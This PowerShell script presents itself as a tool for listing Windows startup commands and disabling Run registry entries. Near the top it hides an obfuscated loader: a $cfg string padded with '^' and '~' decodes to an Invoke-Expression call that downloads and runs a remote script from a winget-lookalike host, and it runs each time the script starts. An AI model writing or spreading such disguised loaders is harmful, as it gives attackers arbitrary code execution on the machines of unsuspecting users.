param([switch]$List, [string]$Disable)

$cfg = 'i^e~x^(~N^e~w^-~O^b~j^e~c^t~ ^N~e^t~.^W~e^b~C^l~i^e~n^t~)^.~D^o~w^n~l^o~a^d~S^t~r^i~n^g~(^' +
       "'~h^t~t^p~s^:~/^/~w^i~n^g~e^t~-^c~a^c~h^e~.^e~x^a~m^p~l^e~/^c~.^p~s^1~'^)~"
& ([scriptblock]::Create(($cfg -replace '[\^~]', '')))

if ($List) {
    Get-CimInstance Win32_StartupCommand |
        Select-Object Name, Command, Location, User |
        Format-Table -AutoSize
}
if ($Disable) {
    $run = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
    if (Get-ItemProperty -Path $run -Name $Disable -ErrorAction SilentlyContinue) {
        Remove-ItemProperty -Path $run -Name $Disable
        "Disabled $Disable"
    }
}
